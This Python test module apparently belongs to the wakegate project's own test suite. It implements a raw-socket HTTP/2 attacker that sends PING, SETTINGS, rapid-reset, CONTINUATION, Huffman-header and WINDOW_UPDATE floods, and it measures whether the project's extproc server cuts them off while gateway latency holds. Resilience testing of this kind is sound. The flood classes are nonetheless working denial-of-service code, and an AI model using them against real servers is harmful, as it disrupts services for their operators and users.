"""A hostile HTTP/2 client for extproc's server: raw sockets and hand-made frames.

Each attack is a `Flood`: what a connection opens with, and a batch of frames it sends
again and again. `flood()` sends batches as fast as the socket takes them while a second
thread reads (and so drains) what the server answers, until the server ends the connection
or the attack has sent its frames; with `reconnect`, a connection that is ended is replaced
by a new one, so the attack goes on for its whole size. It reports how each connection
ended (the GOAWAY code, if the server sent one).

`Prober` is the other side: a client of the gateway whose latency an attack must not hurt.
Only what the tests and tests/bench/bench_h2_floods.py need; nothing here is shipped.
"""

from __future__ import annotations

import http.client
import json
import os
import select
import socket
import struct
import threading
import time
import urllib.request
from dataclasses import dataclass, field
from pathlib import Path

import yaml
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH
from prometheus_client.parser import text_string_to_metric_families

from wakegate import contract
from wakegate.extproc.h2grpc.hpack import encode_int
from wakegate.extproc.h2grpc.hpack import literal as hpack_literal

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 0x1, 0x4
ENHANCE_YOUR_CALM = 0xB
PROCESS = "/envoy.service.ext_proc.v3.ExternalProcessor/Process"

_HUFFMAN_BITS = [format(code, f"0{length}b") for code, length in zip(REQUEST_CODES, REQUEST_CODES_LENGTH, strict=False)]


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream_id) + payload


def huffman(value: bytes) -> bytes:
    bits = "".join(_HUFFMAN_BITS[b] for b in value)
    bits += "1" * (-len(bits) % 8)  # padded with the most significant bits of EOS
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def literal(name: bytes, value: bytes, *, huffman_value: bool = False) -> bytes:
    """A header field without indexing (stateless, so one block serves every stream)."""
    if huffman_value:
        coded = huffman(value)
        return b"\x00" + encode_int(len(name), 7) + name + encode_int(len(coded), 7, 0x80) + coded
    return hpack_literal(name, value)


def request_block(*extra: bytes) -> bytes:
    """The header block of an ext_proc call, as Envoy would open one, plus `extra` fields."""
    return b"".join(
        [
            literal(b":method", b"POST"),
            literal(b":scheme", b"http"),
            literal(b":path", PROCESS.encode()),
            literal(b":authority", b"extproc"),
            literal(b"content-type", b"application/grpc"),
            literal(b"te", b"trailers"),
            *extra,
        ]
    )


@dataclass
class Flood:
    """An attack: `opening` once per connection, then `batch(n)` over and over (n counts batches)."""

    name: str
    frames_per_batch: int
    opening: bytes = PREFACE + frame(SETTINGS, 0, 0)
    #: the limit the server should end it for (its reason in wakegate_gateway_h2_refused_total)
    reason: str = ""

    def batch(self, n: int) -> bytes:
        raise NotImplementedError


class Repeat(Flood):
    """The same frames again and again."""

    def __init__(self, name: str, reason: str, one: bytes, per_batch: int = 1000, opening: bytes = b"") -> None:
        super().__init__(name, per_batch, PREFACE + frame(SETTINGS, 0, 0) + opening, reason)
        self._batch = one * per_batch

    def batch(self, n: int) -> bytes:
        return self._batch


class NewStreams(Flood):
    """HEADERS opening a new stream each (and with `reset`, RST_STREAM right after it)."""

    def __init__(self, name: str, reason: str, block: bytes, *, per_batch: int = 200, reset: bool = False) -> None:
        super().__init__(name, per_batch * (2 if reset else 1), reason=reason)
        self._block = block
        self._per_batch = per_batch
        self._reset = reset

    def batch(self, n: int) -> bytes:
        out = []
        first = 1 + 2 * n * self._per_batch
        for stream_id in range(first, first + 2 * self._per_batch, 2):
            out.append(frame(HEADERS, END_HEADERS, stream_id, self._block))
            if self._reset:
                out.append(frame(RST_STREAM, 0, stream_id, struct.pack(">I", 0x8)))
        return b"".join(out)


class HuffmanHeaders(Flood):
    """Each stream's headers carry a large, unique Huffman-coded value."""

    def __init__(self, size: int = 6_000, variants: int = 32) -> None:
        super().__init__("unique large Huffman headers", 1, reason="hpack")
        self._values = [literal(b"x-junk", os.urandom(size // 2).hex().encode(), huffman_value=True)
                        for _ in range(variants)]  # fmt: skip

    def batch(self, n: int) -> bytes:
        block = request_block(self._values[n % len(self._values)])
        return frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, block)


class Continuations(Flood):
    """One header block that never ends: CONTINUATION after CONTINUATION."""

    def __init__(self, size: int = 16_000) -> None:
        opening = frame(HEADERS, 0, 1, request_block())
        super().__init__("CONTINUATION flood", 1, PREFACE + frame(SETTINGS, 0, 0) + opening, "header_block")
        self._one = frame(CONTINUATION, 0, 1, literal(b"x-junk", b"j" * (size - 16)))

    def batch(self, n: int) -> bytes:
        return self._one


def attacks() -> list[Flood]:
    """The floods an HTTP/2 server is known to fall to, each at the size it is run at."""
    open_stream = frame(HEADERS, END_HEADERS, 1, request_block())
    return [
        Repeat("PING flood", "ping", frame(PING, 0, 0, b"flood!!!")),
        Repeat("SETTINGS flood", "settings", frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65_535))),
        HuffmanHeaders(),
        NewStreams("50k open streams", "rst_stream", request_block()),
        NewStreams("rapid reset", "rapid_reset", request_block(), reset=True),
        Continuations(),
        Repeat("WINDOW_UPDATE flood", "window_update", frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
        Repeat("empty DATA", "empty_frames", frame(DATA, 0, 1), opening=open_stream),
    ]


#: How many frames each attack sends in all (the sizes the attacks were first measured at).
SIZES = {
    "PING flood": 3_000_000,
    "SETTINGS flood": 1_000_000,
    "unique large Huffman headers": 2_000,
    "50k open streams": 50_000,
    "rapid reset": 100_000,
    "CONTINUATION flood": 100_000,
    "WINDOW_UPDATE flood": 1_000_000,
    "empty DATA": 1_000_000,
}


@dataclass
class Outcome:
    attack: str
    #: per connection: the GOAWAY error code the attacker read before the connection ended (None:
    #: none read; the server resets a connection it closes with unread input, which can drop it)
    ended: list[int | None] = field(default_factory=list)
    #: connections the server ended (with or without a GOAWAY read)
    cut: int = 0
    frames: int = 0
    seconds: float = 0.0

    @property
    def calmed(self) -> int:
        """Connections the server ended with ENHANCE_YOUR_CALM."""
        return sum(code == ENHANCE_YOUR_CALM for code in self.ended)


def one_connection(host: str, port: int, attack: Flood, frames: int, deadline: float) -> tuple[int | None, int, bool]:
    """Attack over one connection: (GOAWAY code or None, frames sent, whether the server ended it).

    One thread, non-blocking: it sends while the socket takes data and reads what the server
    answers in between, so it stops sending as soon as a GOAWAY arrives (only whole batches
    written before that count as sent)."""
    sock = socket.create_connection((host, port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.setblocking(False)
    codes: list[int] = []
    data = b""
    pending = attack.opening
    opening = True
    sent = n = 0
    ended = False
    try:
        while time.monotonic() < deadline and (codes or sent < frames):
            readable, writable, _ = select.select([sock], [] if codes else [sock], [], 1.0)
            if readable:
                chunk = sock.recv(1 << 16)
                if not chunk:
                    ended = True
                    break
                data += chunk
                while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
                    length = int.from_bytes(data[:3], "big")
                    if data[3] == GOAWAY and length >= 8:
                        codes.append(int.from_bytes(data[13:17], "big"))
                    data = data[9 + length :]
            if writable and not codes:
                if not pending:
                    pending, opening = attack.batch(n), False
                    n += 1
                pending = pending[sock.send(pending) :]
                if not pending and not opening:
                    sent += attack.frames_per_batch
    except OSError:
        ended = True
    sock.close()
    return (codes[-1] if codes else None), sent, ended


def flood(
    host: str, port: int, attack: Flood, frames: int, *, seconds: float = 30.0, reconnect: bool = True
) -> Outcome:
    """Send `frames` frames of `attack` (or for `seconds`), on new connections as the server ends them."""
    outcome = Outcome(attack.name)
    start = time.monotonic()
    deadline = start + seconds
    while outcome.frames < frames and time.monotonic() < deadline:
        code, sent, ended = one_connection(host, port, attack, frames - outcome.frames, deadline)
        outcome.frames += sent
        outcome.ended.append(code)
        outcome.cut += ended
        if not reconnect or not ended:
            break
    outcome.seconds = time.monotonic() - start
    return outcome


def idle_connections(host: str, port: int, count: int, *, preface: bool) -> list[socket.socket]:
    """`count` connections that say nothing (or only the preface and SETTINGS) and never read."""
    socks = []
    for _ in range(count):
        sock = socket.create_connection((host, port), timeout=10)
        if preface:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        socks.append(sock)
    return socks


@dataclass
class Prober:
    """Sends chat completions through the gateway one after another on one keep-alive connection,
    and keeps each one's latency (seconds) and any failure."""

    port: int
    model: str
    latencies: list[float] = field(default_factory=list)
    #: when each request ended (time.monotonic)
    stamps: list[float] = field(default_factory=list)
    failures: list[str] = field(default_factory=list)
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def __enter__(self) -> Prober:
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        assert self._thread is not None
        self._thread.join(30)

    def _run(self) -> None:
        body = json.dumps({"model": self.model, "messages": [{"role": "user", "content": "hi"}], "max_tokens": 4})
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        while not self._stop.is_set():
            start = time.perf_counter()
            try:
                conn.request("POST", "/v1/chat/completions", body, {"content-type": "application/json"})
                resp = conn.getresponse()
                resp.read()
                if resp.status != 200:
                    self.failures.append(f"status {resp.status}")
            except (OSError, http.client.HTTPException) as exc:
                self.failures.append(repr(exc))
                conn.close()
                conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
            self.latencies.append(time.perf_counter() - start)
            self.stamps.append(time.monotonic())
            time.sleep(0.005)
        conn.close()


def refusals(extproc_admin: str) -> dict[str, float]:
    """wakegate_gateway_h2_refused_total by reason, from one extproc's own /metrics (HOST:PORT of its
    admin port). Not through the gateway: with a standby beside it, the gateway's /metrics is
    answered by whichever extproc Envoy picks for the request."""
    with urllib.request.urlopen(f"http://{extproc_admin}/metrics", timeout=10) as resp:
        families = text_string_to_metric_families(resp.read().decode())
    refused = next((f for f in families if f.name == "wakegate_gateway_h2_refused"), None)
    if refused is None:
        return {}
    return {s.labels["reason"]: s.value for s in refused.samples if s.name.endswith("_total")}


def extproc_port(state_dir: Path) -> int:
    """The active extproc's (`extproc-0`'s) HTTP/2 port, read from the Envoy bootstrap `wakegate up`
    rendered into its state dir."""
    config = yaml.safe_load((state_dir / "envoy.yaml").read_text())
    for cluster in config["static_resources"]["clusters"]:
        if cluster["name"] == contract.EXTPROC_CLUSTER:
            endpoint = cluster["load_assignment"]["endpoints"][0]["lb_endpoints"][0]["endpoint"]
            return int(endpoint["address"]["socket_address"]["port_value"])
    raise AssertionError("no extproc cluster in the bootstrap")


def closed_by_server(sock: socket.socket, timeout: float) -> bool:
    """Whether the server closes `sock` within `timeout` seconds (what it sends first is read and dropped)."""
    sock.settimeout(timeout)
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            if not sock.recv(1 << 16):
                return True
    except TimeoutError:
        return False
    except OSError:
        return True
    return False
